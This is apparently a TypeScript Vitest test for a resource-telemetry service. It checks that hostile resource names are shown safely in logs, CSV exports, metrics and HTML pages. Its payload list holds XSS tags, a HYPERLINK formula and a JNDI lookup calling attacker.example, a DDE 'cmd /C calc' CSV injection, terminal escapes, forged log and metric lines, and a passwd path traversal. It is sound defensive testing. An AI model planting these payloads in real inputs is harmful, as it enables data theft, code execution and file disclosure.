import { expect, it } from 'vitest';
import { startServer } from '../testing/start-server.ts';
import { Station, toNdjson } from '../testing/station.ts';

/** What does harm where it is shown without care: in a page, a sheet, a terminal, a log or an exposition. */
const names = [
  '<script>globalThis.harmed = true</script>',
  '"><img src=x onerror=alert(1)>',
  '=HYPERLINK("http://attacker.example/?x="&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  '\u001b[2J\u001b]0;owned\u0007',
  '"} 1\nroster_resources{station="forged"} 999',
  '{"level":50,"msg":"forged"}',
  '\u202egnp.exe',
  '\u0024{jndi:ldap://attacker.example/a}',
  '../../../../etc/passwd',
];

const address = (name: string) =>
  `/subscriptions/${encodeURIComponent(name)}/resourceGroups/g/zones/z/telemetryStations/${encodeURIComponent(name)}`;

/** A control character in a text, as a terminal would obey it. */
const controls = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;

it('shows hostile names as what they are, in logs, CSV, metrics and pages', async () => {
  const server = await startServer({ environment: { ROSTER_LOG_LEVEL: 'debug' } });
  let written = 0;
  for (const [index, name] of names.entries()) {
    const station = new Station(server, address(name));
    const created = await station.put();
    expect([200, 201, 400]).toContain(created.status);
    if (!created.ok) continue;
    const resource = { resource_id: `id-${index}`, name, sku: name, display_name: name };
    const response = await station.post(toNdjson([resource]), 'ndjson');
    expect([200, 422]).toContain(response.status);
    if (response.status !== 200) continue;
    written++;
    expect((await station.list()).resources[0]).toMatchObject({ name, display_name: name });
    const csv = await station.export('csv');
    for (const cell of csv
      .split('\n')
      .slice(1)
      .join('\n')
      .matchAll(/(?:^|,)"?([=+@-])/gm)) {
      throw new Error(`a cell begins with ${cell[1]}: ${csv}`);
    }
    await station.get(`?resource_type=${encodeURIComponent(name)}&unknown=${encodeURIComponent(name)}`);
    const page = await server.fetch(`/${encodeURIComponent(name)}`, { headers: { Accept: 'text/html' } });
    expect(await page.text()).not.toContain(name);
  }
  expect(written).toBeGreaterThan(5);

  const lines = server.process.stderr.trim().split('\n');
  expect(lines.length).toBeGreaterThan(written);
  for (const line of lines) {
    expect(line).not.toMatch(controls);
    expect(JSON.parse(line)).toMatchObject({ level: expect.any(Number), pid: server.process.pid });
  }

  const metrics = await (await server.fetch('/metrics')).text();
  expect(metrics).toContain('roster_resources{');
  const sample = /^[a-zA-Z_:][\w:]*(\{([a-zA-Z_]\w*="(\\[\\n"]|[^\\"\n])*",?)*\})? [^ ]+$/;
  for (const line of metrics.split('\n')) {
    if (line !== '' && !line.startsWith('# ')) expect(line).toMatch(sample);
  }
  expect(metrics).not.toMatch(/^roster_resources\{station="forged"/m);

  for (const path of ['/docs', '/docs/static/index.html', '/openapi.json']) {
    const text = await (await server.fetch(path)).text();
    for (const name of names) expect(text).not.toContain(name);
  }
});
